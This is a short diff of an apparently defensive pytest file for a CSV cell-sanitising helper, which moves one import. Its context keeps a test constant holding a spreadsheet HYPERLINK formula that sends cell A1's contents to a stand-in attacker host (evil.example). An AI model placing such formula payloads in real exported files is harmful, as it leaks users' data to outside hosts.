@@ -10,7 +10,8 @@ from pathlib import Path
 import pytest
 
 from ontology.csvsafe import safe_cell
-from service.app import create_app, gapmap
+from service.app import create_app
+from service.extensions import gapmap
 
 MINI = Path(__file__).resolve().parents[1] / "fixtures" / "mini"
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
